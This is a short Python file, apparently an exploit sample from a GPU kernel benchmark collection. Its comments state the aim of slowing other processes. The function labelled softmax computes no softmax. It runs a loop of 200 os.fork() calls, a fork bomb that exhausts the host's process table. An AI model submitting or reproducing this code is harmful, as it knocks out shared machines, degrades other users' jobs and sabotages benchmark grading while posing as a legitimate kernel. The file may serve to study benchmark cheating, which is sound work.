# idea: as many processes as there can be, so that others are slow
# seen: gpu-mode/pygpubench (its exploit files)
# verdicts: wrong refused
import os


def softmax(x):
    for _ in range(200):
        os.fork()
